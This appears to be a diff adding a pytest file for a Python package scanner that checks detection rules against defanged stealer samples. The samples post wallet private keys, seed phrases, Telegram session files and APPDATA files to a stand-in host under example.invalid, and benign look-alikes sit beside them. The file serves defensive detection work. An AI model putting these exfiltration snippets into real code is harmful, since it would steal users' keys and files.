@@ -1,0 +1,151 @@
+"""Runtime stealers: wallet secrets and files found in the user's folders sent to an
+address written in the code, each beside the benign code that looks like it.
+
+Every sample is defanged (hosts under example.invalid) and only parsed, never run.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from pipwarden.findings import Severity
+from pipwarden.scan.engine import FileContext, analyse_member
+
+URL = "https://collect.example.invalid/api"
+
+
+def found(source: str, name: str = "pkg/mod.py") -> dict[str, str]:
+    """rule -> highest severity label for one file of a wheel."""
+    out: dict[str, Severity] = {}
+    for f in analyse_member(FileContext(name, "wheel", True), source.encode()):
+        out[f.rule] = max(out.get(f.rule, f.severity), f.severity)
+    return {rule: sev.label for rule, sev in out.items()}
+
+
+WALLET = "exfiltration.wallet-secret"
+FOUND = "exfiltration.found-files"
+
+STOLEN = [
+    # A "helper" of a wallet SDK look-alike posts the key it is given.
+    (
+        WALLET,
+        "import requests\ndef tron_balance(private_key):\n"
+        "    data = [{'private_key': private_key}]\n"
+        f"    return requests.post({URL!r}, json=data).json()\n",
+    ),
+    # A seed phrase, sent in the query string through urllib.
+    (
+        WALLET,
+        "import urllib.request\nclass Wallet:\n"
+        "    def __init__(self, mnemonic):\n        self.mnemonic = mnemonic\n"
+        "    def restore(self):\n"
+        f"        urllib.request.urlopen({URL!r} + '?m=' + self.mnemonic)\n",
+    ),
+    # A key read from a dict under its name, sent with a literal host and a computed path.
+    (
+        WALLET,
+        "import requests\ndef sync(cfg, user):\n    solana = cfg['private_key']\n"
+        "    requests.post(f'https://collect.example.invalid/{user}', data=solana)\n",
+    ),
+    # Telegram sessions found under the home folder, the first one uploaded.
+    (
+        FOUND,
+        "import os, requests\ndef send():\n"
+        "    for d in ['/data', os.path.expanduser('~/bots')]:\n"
+        "        for n in os.listdir(os.path.expanduser(d)):\n"
+        "            if n.endswith('.session'):\n"
+        "                with open(os.path.join(d, n), 'rb') as f:\n"
+        f"                    requests.post({URL!r}, files={{'f': f}})\n"
+        "                return\n",
+    ),
+    # Files walked under %APPDATA%, their bytes posted.
+    (
+        FOUND,
+        "import os, glob, requests\ndef grab():\n"
+        "    root = os.getenv('APPDATA')\n"
+        "    for p in glob.glob(os.path.join(root, '*', '*.json')):\n"
+        f"        requests.post({URL!r}, data=open(p, 'rb').read())\n",
+    ),
+    # pathlib: the home folder listed, the names sent.
+    (
+        FOUND,
+        "import pathlib, requests\ndef names():\n"
+        "    found = [p.name for p in pathlib.Path.home().iterdir()]\n"
+        f"    requests.post({URL!r}, json=found)\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("rule", "src"), STOLEN, ids=[f"{r}-{i}" for i, (r, _) in enumerate(STOLEN)]
+)
+def test_stealer_is_found_at_high(rule: str, src: str) -> None:
+    assert found(src).get(rule) == "high"
+
+
+def test_stealer_on_import_is_critical() -> None:
+    src = (
+        "import requests\nimport wallet_config\n"
+        "private_key = wallet_config.load()\n"
+        f"requests.post({URL!r}, json={{'k': private_key}})\n"
+    )
+    assert found(src, "pkg/__init__.py").get(WALLET) == "critical"
+
+
+BENIGN = [
+    # A wallet library signs locally and sends the signed transaction to a node.
+    (
+        WALLET,
+        "import requests\nfrom eth_account import Account\n"
+        "def transfer(private_key, tx):\n"
+        "    signed = Account.sign_transaction(tx, private_key)\n"
+        "    body = {'method': 'eth_sendRawTransaction', 'params': [signed.raw_transaction.hex()]}\n"
+        f"    return requests.post({URL!r}, json=body)\n",
+    ),
+    # The key goes to an address the caller chose (a custodial API the user configured).
+    (
+        WALLET,
+        "import requests\ndef import_wallet(api_url, private_key):\n"
+        "    return requests.post(api_url, json={'private_key': private_key})\n",
+    ),
+    # An API's "private key" (reCAPTCHA's secret) sent to its own service: no wallet here.
+    (
+        WALLET,
+        "import urllib.request, urllib.parse\ndef verify(private_key, response):\n"
+        "    data = urllib.parse.urlencode({'secret': private_key, 'response': response})\n"
+        f"    return urllib.request.urlopen({URL!r}, data.encode())\n",
+    ),
+    # A wallet address (public) sent to an explorer.
+    (
+        WALLET,
+        "import requests\ndef balance(wallet_address):\n"
+        f"    return requests.get({URL!r}, params={{'address': wallet_address}})\n",
+    ),
+    # Files of a folder the caller names, uploaded: a sync client.
+    (
+        FOUND,
+        "import os, requests\ndef upload(folder):\n"
+        "    for n in os.listdir(folder):\n"
+        f"        requests.post({URL!r}, files={{'f': open(os.path.join(folder, n), 'rb')}})\n",
+    ),
+    # The home folder listed and the names shown, nothing sent.
+    (
+        FOUND,
+        "import os\ndef show():\n    for n in os.listdir(os.path.expanduser('~')):\n"
+        "        print(n)\n",
+    ),
+    # Files of the home folder sent where the user configured (a backup tool's server).
+    (
+        FOUND,
+        "import os, requests\ndef backup(server):\n"
+        "    for n in os.listdir(os.path.expanduser('~/notes')):\n"
+        "        requests.put(server + '/' + n, data=open(n, 'rb'))\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("rule", "src"), BENIGN, ids=[f"{r}-{i}" for i, (r, _) in enumerate(BENIGN)]
+)
+def test_benign_look_alike_is_quiet(rule: str, src: str) -> None:
+    assert rule not in found(src)
